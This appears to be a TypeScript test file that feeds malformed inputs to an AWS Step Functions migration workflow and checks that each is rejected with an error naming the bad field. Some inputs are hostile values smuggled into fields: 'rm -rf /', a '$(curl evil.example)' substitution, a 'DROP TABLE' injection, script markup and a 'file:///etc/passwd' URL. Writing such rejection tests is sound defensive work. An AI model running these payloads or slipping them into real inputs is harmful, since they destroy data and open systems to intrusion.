/**
 * Malformed execution inputs (issue 3, item 9; docs/design.md invariant 7): each is started as a real
 * Migrate execution on a simulated account and must be rejected before any AWS call other than the
 * publish of the rejection notice, with an error naming the bad field and a notification saying the
 * input was rejected.
 */
import { MAX_INPUT_BYTES } from '../../lambdas/shared/contracts';
import { SAMPLE_STACK, TARGET_VERSION } from '../sample-environment';
import { ZERO_TIMING } from '../sim/core';
import { deployment } from './matrix';
import { runFaulted, runInOrder } from './runner';

export interface BadInput {
  name: string;
  input: unknown;
  /** The field the rejection must name ("(input)" for the input as a whole). */
  field: string;
}

const valid = { stackName: SAMPLE_STACK, targetVersion: TARGET_VERSION };
const waits = { snapshotSeconds: 600, stackCreateSeconds: 600, stackDeleteSeconds: 600, standbySeconds: 60, smokeTestSeconds: 60 };
const secretArn = 'arn:aws:secretsmanager:us-east-1:123456789012:secret:stats-key-AbCdEf';

export const BAD_INPUTS: BadInput[] = [
  { name: 'stackName missing', input: { targetVersion: TARGET_VERSION }, field: 'stackName' },
  { name: 'targetVersion missing', input: { stackName: SAMPLE_STACK }, field: 'targetVersion' },
  { name: 'an empty object', input: {}, field: 'stackName' },
  { name: 'stackName a number', input: { ...valid, stackName: 42 }, field: 'stackName' },
  { name: 'stackName null', input: { ...valid, stackName: null }, field: 'stackName' },
  { name: 'stackName empty', input: { ...valid, stackName: '' }, field: 'stackName' },
  { name: 'stackName starting with a digit', input: { ...valid, stackName: '1orders' }, field: 'stackName' },
  { name: 'stackName with an underscore', input: { ...valid, stackName: 'orders_prod' }, field: 'stackName' },
  { name: 'stackName with a space', input: { ...valid, stackName: 'orders prod' }, field: 'stackName' },
  { name: 'stackName over 100 characters', input: { ...valid, stackName: `o${'x'.repeat(100)}` }, field: 'stackName' },
  { name: 'stackName shell injection', input: { ...valid, stackName: 'orders; rm -rf /' }, field: 'stackName' },
  { name: 'stackName command substitution', input: { ...valid, stackName: '$(curl evil.example)' }, field: 'stackName' },
  { name: 'stackName with a line break', input: { ...valid, stackName: 'orders\nDROP TABLE customers' }, field: 'stackName' },
  { name: 'targetVersion empty', input: { ...valid, targetVersion: '' }, field: 'targetVersion' },
  { name: 'targetVersion with a space', input: { ...valid, targetVersion: '1.4 beta' }, field: 'targetVersion' },
  { name: 'targetVersion an array', input: { ...valid, targetVersion: ['1.4.0'] }, field: 'targetVersion' },
  { name: 'targetVersion markup', input: { ...valid, targetVersion: '<script>alert(1)</script>' }, field: 'targetVersion' },
  { name: 'templateUrl over http', input: { ...valid, templateUrl: 'http://my-artifacts.s3.amazonaws.com/t.yaml' }, field: 'templateUrl' },
  { name: 'templateUrl not in S3', input: { ...valid, templateUrl: 'https://example.com/t.yaml' }, field: 'templateUrl' },
  { name: 'templateUrl javascript:', input: { ...valid, templateUrl: 'javascript:alert(1)' }, field: 'templateUrl' },
  { name: 'templateUrl a file path', input: { ...valid, templateUrl: 'file:///etc/passwd' }, field: 'templateUrl' },
  { name: 'parameters an array', input: { ...valid, parameters: ['InstanceType=t3.medium'] }, field: 'parameters' },
  { name: 'parameter name with a space', input: { ...valid, parameters: { 'Instance Type': 't3.medium' } }, field: 'parameters' },
  { name: 'parameter value a number', input: { ...valid, parameters: { DesiredCapacity: 3 } }, field: 'parameters.DesiredCapacity' },
  { name: 'unknown top-level field', input: { ...valid, stackname: 'orders-prod' }, field: 'stackname' },
  { name: 'misspelt wait', input: { ...valid, waits: { snapshotSecond: 600 } }, field: 'waits.snapshotSecond' },
  { name: 'wait of zero', input: { ...valid, waits: { ...waits, snapshotSeconds: 0 } }, field: 'waits.snapshotSeconds' },
  { name: 'negative wait', input: { ...valid, waits: { ...waits, standbySeconds: -5 } }, field: 'waits.standbySeconds' },
  { name: 'absurd wait', input: { ...valid, waits: { ...waits, stackCreateSeconds: 1e9 } }, field: 'waits.stackCreateSeconds' },
  { name: 'fractional wait', input: { ...valid, waits: { ...waits, smokeTestSeconds: 1.5 } }, field: 'waits.smokeTestSeconds' },
  { name: 'wait as a string', input: { ...valid, waits: { ...waits, snapshotSeconds: '600' } }, field: 'waits.snapshotSeconds' },
  { name: 'waits that overrun the execution', input: { ...valid, waits: { ...waits, snapshotSeconds: 20 * 3600 } }, field: 'waits' },
  { name: 'statistics timeout of zero', input: { ...valid, statistics: { timeoutSeconds: 0 } }, field: 'statistics.timeoutSeconds' },
  { name: 'statistics header secret not an ARN', input: { ...valid, statistics: { header: { name: 'X-Api-Key', secretArn: 's3cr3t-value' } } }, field: 'statistics.header.secretArn' },
  { name: 'statistics header with an unknown field', input: { ...valid, statistics: { header: { name: 'X-Api-Key', secretArn, value: 'plain' } } }, field: 'statistics.header.value' },
  { name: 'smoke test path without a slash', input: { ...valid, smokeTest: { path: 'health' } }, field: 'smokeTest.path' },
  { name: 'smoke test expected status 99', input: { ...valid, smokeTest: { expectedStatus: 99 } }, field: 'smokeTest.expectedStatus' },
  { name: 'smoke test timeout of an hour', input: { ...valid, smokeTest: { timeoutSeconds: 3600 } }, field: 'smokeTest.timeoutSeconds' },
  { name: 'secretParameters value not an ARN (a pasted password)', input: { ...valid, secretParameters: { DbPassword: 'hunter2' } }, field: 'secretParameters.DbPassword' },
  { name: 'secretParameters an array', input: { ...valid, secretParameters: [secretArn] }, field: 'secretParameters' },
  { name: 'secretParameters value an object', input: { ...valid, secretParameters: { DbPassword: { secretArn } } }, field: 'secretParameters.DbPassword' },
  { name: 'secretParameters ARN of another service', input: { ...valid, secretParameters: { DbPassword: 'arn:aws:ssm:us-east-1:123456789012:parameter/db' } }, field: 'secretParameters.DbPassword' },
  { name: 'a parameter given in parameters and secretParameters', input: { ...valid, parameters: { DbPassword: 'x' }, secretParameters: { DbPassword: secretArn } }, field: 'secretParameters.DbPassword' },
  { name: 'retainOriginalSnapshots a string', input: { ...valid, retainOriginalSnapshots: 'yes' }, field: 'retainOriginalSnapshots' },
  { name: 'input an array', input: [valid], field: '(input)' },
  { name: 'input a string', input: 'orders-prod', field: '(input)' },
  { name: 'input over the size limit', input: { ...valid, parameters: Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`P${i}`, 'x'.repeat(4000)])) }, field: '(input)' },
];

export interface BadInputResult {
  input: BadInput;
  rejected: boolean;
  /** Why it does not count as rejected properly; empty when it does. */
  problems: string[];
}

/** Starts a Migrate execution with `bad.input` and checks it was rejected as it must be. */
export async function runBadInput(bad: BadInput): Promise<BadInputResult> {
  // As JSON text: the harness passes a string through as the execution's input.
  const outcome = await runFaulted({ name: `bad input: ${bad.name}`, input: JSON.stringify(bad.input), seed: false, timing: ZERO_TIMING });
  const problems: string[] = [];
  const { execution, account } = outcome;
  if (execution.status !== 'FAILED' || execution.error !== 'InputInvalid') problems.push(`ended ${execution.status} ${execution.error ?? ''}, not FAILED with InputInvalid`);
  if (!(execution.cause ?? '').includes(bad.field)) problems.push(`the error does not name ${bad.field}: ${execution.cause ?? '(no cause)'}`);
  // The test's own StartExecution aside, the only call allowed is the publish of the rejection notice.
  const calls = account.calls.filter((c) => !(c.service === 'SFN' && c.operation === 'StartExecution')).map((c) => `${c.service}.${c.operation}`);
  if (calls.join() !== 'SNS.Publish') problems.push(`AWS calls other than the notice's publish: ${calls.join(', ') || '(none, not even the publish)'}`);
  const messages = account.sns.messages((await deployment()).topicArn);
  if (messages.length !== 1) problems.push(`${messages.length} notifications instead of one`);
  const [message] = messages;
  if (message && !/REJECTED/.test(message.subject ?? '')) problems.push(`the notification's subject does not say the input was rejected: ${message.subject}`);
  if (message && !message.message.includes(bad.field)) problems.push(`the notification does not name ${bad.field}`);
  return { input: bad, rejected: problems.length === 0, problems };
}

/** Every bad input, in order. */
export async function runBadInputs(onResult?: (r: BadInputResult) => void): Promise<BadInputResult[]> {
  return runInOrder(BAD_INPUTS, runBadInput, onResult);
}

// The size case must be over the limit and under Step Functions' own 256 KiB, or StartExecution refuses it first.
const sizeCase = JSON.stringify(BAD_INPUTS.find((b) => b.name === 'input over the size limit')?.input);
if (Buffer.byteLength(sizeCase) <= MAX_INPUT_BYTES || Buffer.byteLength(sizeCase) >= 256 * 1024) throw new Error('the oversized bad input is not between the two limits');
